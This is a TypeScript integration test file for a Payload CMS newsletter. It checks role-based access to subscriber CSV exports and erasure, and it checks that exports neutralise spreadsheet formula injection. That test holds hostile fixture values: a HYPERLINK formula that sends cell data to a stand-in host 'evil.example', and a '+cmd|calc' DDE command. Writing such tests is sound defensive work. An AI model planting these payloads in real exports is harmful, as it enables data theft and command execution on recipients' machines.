/**
 * Subscribers leave the CMS only as admins' CSV exports; everyone else gets nothing, through
 * every route: the export download, the exports collection, and erasing.
 */
import { randomUUID } from 'node:crypto'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { apiClient, signIn } from './helpers/api'
import { createConfirmedSubscriber } from './helpers/fixtures'
import { startTestPayload } from './helpers/testPayload'

let payload: Payload
let api: ReturnType<typeof apiClient>
const tokens: Record<string, string | undefined> = {}

beforeAll(async () => {
  const started = await startTestPayload()
  payload = started.payload
  api = apiClient(started.config)
  for (const role of ['admin', 'editor', 'writer'] as const) tokens[role] = (await signIn(payload, role)).token
  for (const email of ['ruth@reader.example', 'sam@reader.example']) {
    await createConfirmedSubscriber(payload, { email, firstName: 'Reader' })
  }
})

const download = (token?: string) =>
  api.request('POST', '/api/exports/download', {
    token,
    body: { data: { collectionSlug: 'subscribers', format: 'csv', fields: ['email', 'status', 'firstName'] } },
  })

describe('exporting subscribers', () => {
  it('gives an admin a CSV of every subscriber', async () => {
    const response = await download(tokens.admin)
    expect(response.status).toBe(200)
    const csv = String(response.body)
    expect(csv.split('\n')[0]).toMatch(/email/)
    expect(csv).toContain('ruth@reader.example')
    expect(csv).toContain('sam@reader.example')
  })

  it('writes no cell a spreadsheet would run as a formula, whatever got into the data', async () => {
    // Sign-ups refuse such names; text can still come in through the admin, the API or an import.
    const hostile = ['=HYPERLINK("https://evil.example/?"&A3,"Click")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']
    for (const [i, firstName] of hostile.entries()) {
      await payload.create({ collection: 'subscribers', data: { email: `formula-${i}@reader.example`, status: 'pending', firstName, lastName: firstName } })
    }
    const response = await api.request('POST', '/api/exports/download', {
      token: tokens.admin,
      body: { data: { collectionSlug: 'subscribers', format: 'csv', fields: ['email', 'firstName', 'lastName'], limit: 100 } },
    })
    expect(response.status).toBe(200)
    const csv = String(response.body)
    for (const [i] of hostile.entries()) expect(csv).toContain(`formula-${i}@reader.example`)
    // Each kept as text, behind an apostrophe...
    expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?""&A3,""Click"")`)
    for (const start of ["'+1+cmd|calc", "'-2+3", "'@SUM(A1)", "'\t=1+1", "'\r=1+1"]) expect(csv).toContain(start)
    // ...and no cell, quoted or not, starts with a formula character.
    expect(csv).not.toMatch(/(^|\n|,)"?[=+\-@\t\r]/)
  })

  it.each(['public', 'writer', 'editor'])('gives %s nothing', async (who) => {
    const response = await download(tokens[who])
    expect(response.status).toBe(403)
    expect(JSON.stringify(response.body)).not.toContain('reader.example')
  })

  it.each(['public', 'writer', 'editor'])('keeps saved export files from %s', async (who) => {
    const saved = await payload
      .create({
        collection: 'exports',
        data: { collectionSlug: 'subscribers', format: 'csv', name: 'all-subscribers' } as never,
        user: await payload.findByID({ collection: 'users', id: 1 }),
      })
      .catch(() => null)
    expect((await api.request('GET', '/api/exports', { token: tokens[who] })).status).toBe(403)
    if (saved) expect((await api.request('GET', `/api/exports/${saved.id}`, { token: tokens[who] })).status).toBe(403)
    expect((await api.request('POST', '/api/exports', { token: tokens[who], body: { collectionSlug: 'subscribers' } })).status).toBe(403)
  })
})

describe('erasing a subscriber', () => {
  it.each(['public', 'writer', 'editor'])('is refused to %s', async (who) => {
    const { id } = await payload.create({ collection: 'subscribers', data: { email: `keep-${who}@reader.example`, status: 'pending' } })
    expect((await api.request('DELETE', `/api/subscribers/${id}`, { token: tokens[who] })).status).toBe(403)
    expect((await api.request('POST', `/api/subscribers/${id}/erase`, { token: tokens[who] })).status).toBe(403)
    expect((await payload.count({ collection: 'subscribers', where: { id: { equals: id } } })).totalDocs).toBe(1)
  })

  it('removes the subscriber completely for an admin', async () => {
    const { id } = await payload.create({ collection: 'subscribers', data: { email: 'forget-me@reader.example', status: 'pending' } })
    const { pool } = payload.db
    const signup = randomUUID()
    await pool.query(`INSERT INTO newsletter_signups (id, subscriber_id, received_at, first_name) VALUES ($1, $2, now(), 'Forget')`, [signup, id])
    await pool.query(`INSERT INTO newsletter_outbox (signup_id, subscriber_id) VALUES ($1, $2)`, [signup, id])
    // Erasing is its own action (Payload's delete is closed: tests/subscriberStatus.int.test.ts).
    expect((await api.request('POST', `/api/subscribers/${id}/erase`, { token: tokens.admin })).status).toBe(200)
    expect((await pool.query('SELECT 1 FROM subscribers WHERE id = $1', [id])).rows).toHaveLength(0)
    expect((await pool.query('SELECT 1 FROM newsletter_signups WHERE subscriber_id = $1', [id])).rows).toHaveLength(0)
    expect((await pool.query('SELECT 1 FROM newsletter_outbox WHERE subscriber_id = $1', [id])).rows).toHaveLength(0)
    expect((await pool.query(`SELECT 1 FROM subscribers WHERE email_key = 'forget-me@reader.example'`, [])).rows).toHaveLength(0)
  })
})
